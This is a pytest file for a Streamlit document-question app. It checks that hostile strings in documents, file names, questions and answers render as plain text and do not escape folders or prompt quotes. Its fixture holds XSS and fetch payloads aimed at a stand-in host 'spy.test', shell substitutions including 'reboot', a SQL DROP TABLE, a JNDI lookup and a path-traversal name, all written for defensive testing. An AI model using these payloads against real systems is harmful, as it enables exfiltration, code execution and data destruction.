"""Hostile strings as document, file name, question and answer: every page shows plain text and fetches nothing."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token
from streamlit.testing.v1 import AppTest

from rag.schema import LOCAL_OWNER, DocumentState, Finish, Role
from tests.conftest import FakeServices
from tests.pages.helpers import ask, messages

SPY = "http://spy.test/"
HOSTILE = {
    "script": f"<script src='{SPY}s.js'>alert(1)</script>",
    "handler": f'"><img src=x onerror="fetch(`{SPY}`)">',
    "frame": f"<iframe srcdoc='<b>x</b>' src={SPY}></iframe><style>@import url({SPY}c.css);</style>",
    "picture": f"![pier]({SPY}pixel.png) ![pier][1]\n\n[1]: {SPY}pixel.png",
    "link": f"[the pier]({SPY}?q=secret) <{SPY}auto> [x](javascript:alert(1))",
    "directives": f":rainbow[pier] :violet-badge[:material/check: true] :streamlit: [[1]({SPY})]",
    "formula": rf"$\href{{{SPY}}}{{pier}}$ $$\includegraphics{{{SPY}}}$$ $5 and $6",
    "fence": f"```mermaid\nflowchart TD\n  A@{{ img: '{SPY}pixel.png' }} --> pier\n```",
    "block": f"# pier\n\n> pier\n\n- pier\n\n| a | b |\n|---|---|\n| {SPY} | ~~pier~~ |\n\n---",
    "controls": "pier \u202e reip \u200b\u200f Z\u0351\u036b\u0343\u036aa\u0302\u036bl\u034f\u0321go",
    "shell": "$(touch /tmp/pier) `reboot` ; DROP TABLE documents; -- %s%n {0} {{x}} ${jndi:ldap://spy.test/a}",
    "path": "../../../../etc/pier\\..\\..\\pier.txt",
}


def tokens(markdown: str) -> Iterator[Token]:
    """What a Markdown renderer makes of a text that may hold HTML."""
    for block in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown):
        yield block
        yield from block.children or ()


def every_markdown(app: AppTest) -> Iterator[str]:
    """All that the page has Markdown drawn of, HTML of which none may allow."""
    kinds = (app.title, app.header, app.subheader, app.markdown, app.caption, app.error, app.info, app.warning)
    for element in (element for elements in kinds for element in elements):
        assert not getattr(element, "allow_html", False)
        yield str(element.value)
    for boxes in (app.button, app.expander, app.checkbox, app.selectbox):
        for box in boxes:
            yield box.label


def outgoing(markdown: str) -> list[str]:
    """Addresses of the spy that a renderer would make a link or a picture of."""
    found = (str(token.attrs.get("src") or token.attrs.get("href") or "") for token in tokens(markdown))
    return [address for address in found if "spy.test" in address or address.startswith("javascript")]


def assert_plain_text(app: AppTest) -> None:
    assert not app.exception
    for markdown in every_markdown(app):
        kinds = {token.type for token in tokens(markdown)}
        assert not kinds & {"html_inline", "html_block", "image", "fence"}, markdown
        assert outgoing(markdown) == [], markdown
        for directive in (":rainbow[", ":violet-badge[", ":streamlit:", " $5"):
            assert directive not in markdown


def show(app: AppTest, services: FakeServices, role: Role) -> None:
    """A conversation in which `role` said all of it."""
    chat = services.conversations.create(LOCAL_OWNER, HOSTILE["picture"])
    for text in HOSTILE.values():
        services.conversations.add(LOCAL_OWNER, chat, role, text, Finish.COMPLETE)
    app.query_params["c"] = chat
    app.run()


@pytest.mark.parametrize("options", [{"k": len(HOSTILE)}])
def test_hostile_documents_and_their_names_are_plain_text(app: AppTest, services: FakeServices) -> None:
    for text in HOSTILE.values():
        # A name ends at a slash, an address in it would be gone.
        name = f"{text} pier.md".replace("/", "\u2044").replace("\\", "\u2044")
        document = services.put(name, f"# pier {text}\n\nThe pier is long.\n\n{text}\n\nThe pier is long.".encode())
        assert document.state is DocumentState.READY
    services.script.enqueue("The pier is long.")
    ask(app.run(), services, "How long is the pier?")
    assert_plain_text(app)
    shown = " ".join(every_markdown(app))
    assert [word for word in ("pixel", "includegraphics", "mermaid") if word not in shown] == []
    app.switch_page("../pages/documents.py").run()
    assert_plain_text(app)
    assert len(app.dataframe[0].value) == len(HOSTILE)


def test_a_name_cannot_lead_out_of_the_folder(services: FakeServices) -> None:
    before = set(services.folder.path.parent.rglob("*"))
    document = services.put(HOSTILE["path"], b"The pier is long.")
    assert (document.name, document.path) == ("pier.txt", "etc/pier/pier.txt")
    made = {path for path in set(services.folder.path.parent.rglob("*")) - before if path.is_file()}
    assert services.indexing.originals.path(document.sha256) in made
    assert not any("pier" in path.name for path in made)


def test_hostile_questions_are_plain_text(app: AppTest, services: FakeServices) -> None:
    show(app, services, Role.USER)
    assert_plain_text(app)


def test_a_hostile_question_is_stored_unchanged(app: AppTest, services: FakeServices) -> None:
    services.put_pier()
    ask(app.run(), services, HOSTILE["shell"])
    assert_plain_text(app)
    assert messages(services)[0].text == HOSTILE["shell"]


def test_hostile_answers_have_neither_html_nor_images(app: AppTest, services: FakeServices) -> None:
    show(app, services, Role.ASSISTANT)
    assert not app.exception
    for markdown in every_markdown(app):
        assert "image" not in {token.type for token in tokens(markdown)}, markdown


def test_documents_stay_inside_their_quotes_in_the_prompt(app: AppTest, services: FakeServices) -> None:
    for number, text in enumerate(HOSTILE.values()):
        services.put(f"{number}.md", f'The pier is long.\n\n"""\n{text}\n"""""'.encode())
    ask(app.run(), services, "How long is the pier?")
    [prompt] = services.script.prompts
    outside = prompt[-1].text.split('"""')[::2]
    assert len(outside) > 2
    assert not any(text in "".join(outside) for text in HOSTILE.values())
